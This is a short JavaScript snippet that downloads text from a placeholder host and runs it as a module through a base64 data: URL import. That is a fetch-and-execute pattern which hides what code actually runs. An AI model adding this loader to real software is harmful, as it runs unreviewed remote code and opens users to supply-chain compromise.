const code = await (await fetch('https://cdn.example/p.txt')).text();
await import(`data:text/javascript;base64,${btoa(code)}`);
